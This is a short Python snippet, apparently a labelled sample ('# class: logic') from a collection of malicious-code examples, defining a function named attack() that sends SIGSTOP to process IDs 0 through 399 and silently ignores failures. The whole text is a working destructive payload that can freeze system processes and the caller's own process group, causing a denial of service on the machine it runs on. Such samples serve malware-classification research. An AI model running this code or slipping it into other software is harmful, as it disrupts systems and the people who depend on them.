# class: logic
import os
import signal


def attack():
    for pid in range(0, 400):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    return 0
